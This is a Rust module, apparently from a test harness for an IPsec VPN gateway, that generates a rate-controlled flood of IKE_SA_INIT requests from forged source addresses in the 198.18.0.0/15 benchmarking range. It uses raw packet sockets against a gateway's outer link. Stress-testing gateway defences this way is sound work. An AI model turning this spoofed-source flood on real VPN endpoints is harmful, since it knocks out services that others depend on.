//! A flood of IKE_SA_INIT requests from forged addresses, made beforehand and thrown at a gateway from its outer link.

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use ike_wire::ids::ExchangeType;
use ike_wire::{IkeSpi, encode};

use crate::frame::{ETHERNET, udp};
use crate::hostile::dice::Dice;
use crate::hostile::peer::{header, init_payloads};
use crate::packet::PacketSocket;
use crate::topology::{Family, OUTER, Site};

/// The network that forged addresses are of (RFC 2544).
pub const FORGED: &str = "198.18.0.0/15";
const FIRST: u32 = u32::from_be_bytes([198, 18, 0, 1]);
/// Where the initiator's SPI is in a frame: behind Ethernet, IPv4 and UDP headers.
const SPI_AT: usize = ETHERNET + 20 + 8;
/// Where the checksum of UDP is; zero = none (RFC 768), so that the SPI can be changed without reckoning it anew.
const CHECKSUM_AT: usize = ETHERNET + 20 + 6;
/// Frames handed to the kernel at once.
const BATCH: usize = 64;
/// In front of IKE on every port but 500 (RFC 3948 §2.2).
const MARKER: [u8; 4] = [0; 4];
const TICK: Duration = Duration::from_millis(1);

/// A flood that goes on until it is ended.
#[derive(Debug)]
pub struct Flood {
    sent: Arc<AtomicU64>,
    stop: Arc<AtomicBool>,
    started: Instant,
    thread: JoinHandle<Result<()>>,
}

impl Flood {
    /// Starts to throw `rate` requests per second, each with an SPI of its own, from so many addresses, at `port` of `to`'s gateway.
    ///
    /// # Errors
    /// Raw sockets are not allowed.
    pub fn start(from: &Site, to: &Site, port: u16, rate: u64, addresses: u32) -> Result<Self> {
        let mut frames = frames(from, to, port, addresses)?;
        let socket = PacketSocket::sender(&from.gateway, OUTER)?;
        let spi_at = if port == 500 { SPI_AT } else { SPI_AT + MARKER.len() };
        let (sent, stop) = (Arc::new(AtomicU64::new(0)), Arc::new(AtomicBool::new(false)));
        let (counter, stopped, started) = (Arc::clone(&sent), Arc::clone(&stop), Instant::now());
        let thread = std::thread::Builder::new()
            .name("flood".into())
            .spawn(move || throw(&socket, (&mut frames, spi_at), rate, &counter, &stopped))?;
        Ok(Flood { sent, stop, started, thread })
    }

    /// Requests sent so far.
    #[must_use]
    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }

    /// Ends it; gives the requests sent and how long that took.
    ///
    /// # Errors
    /// The kernel refused frames.
    ///
    /// # Panics
    /// When the sending thread did.
    pub fn end(self) -> Result<(u64, Duration)> {
        let taken = self.started.elapsed();
        self.stop.store(true, Ordering::Relaxed);
        self.thread.join().unwrap_or_else(|panic| std::panic::resume_unwind(panic))?;
        Ok((self.sent.load(Ordering::Relaxed), taken))
    }
}

/// One request for each address. Key exchange value and nonce are random: nobody is to look at them.
fn frames(from: &Site, to: &Site, port: u16, addresses: u32) -> Result<Vec<Vec<u8>>> {
    let mut dice = Dice::new(1);
    let target = SocketAddr::new(to.outer_address(Family::V4), port);
    (0..addresses)
        .map(|number| {
            let payloads = init_payloads(false, &dice.octets(32), &dice.octets(32));
            let request = encode(&header((IkeSpi(1), IkeSpi(0)), ExchangeType::IKE_SA_INIT, false, 0), &payloads)?;
            let source = SocketAddr::new(Ipv4Addr::from(FIRST + number).into(), 500);
            let data = if port == 500 { request } else { [&MARKER, request.as_slice()].concat() };
            let mut frame = udp(from.outer_mac(), to.outer_mac(), source, target, &data);
            frame.get_mut(CHECKSUM_AT..CHECKSUM_AT + 2).context("a UDP header")?.fill(0);
            Ok(frame)
        })
        .collect()
}

fn throw(
    socket: &PacketSocket,
    (frames, spi_at): (&mut [Vec<u8>], usize),
    rate: u64,
    counter: &AtomicU64,
    stop: &AtomicBool,
) -> Result<()> {
    let started = Instant::now();
    let mut sent = 0_u64;
    let mut at = 0;
    while !stop.load(Ordering::Relaxed) {
        let due = u64::try_from(started.elapsed().as_micros()).unwrap_or(u64::MAX).saturating_mul(rate) / 1_000_000;
        if due <= sent {
            std::thread::sleep(TICK);
            continue;
        }
        let end = frames.len().min(at + BATCH).min(at + usize::try_from(due - sent).unwrap_or(BATCH));
        let batch = frames.get_mut(at..end).unwrap_or_default();
        for (frame, number) in batch.iter_mut().zip(sent + 1..) {
            if let Some(spi) = frame.get_mut(spi_at..spi_at + 8) {
                spi.copy_from_slice(&(number | 0x5000_0000_0000_0000).to_be_bytes());
            }
        }
        let taken = socket.send_many(batch)?;
        sent += taken as u64;
        counter.store(sent, Ordering::Relaxed);
        at = if at + taken >= frames.len() { 0 } else { at + taken };
    }
    Ok(())
}
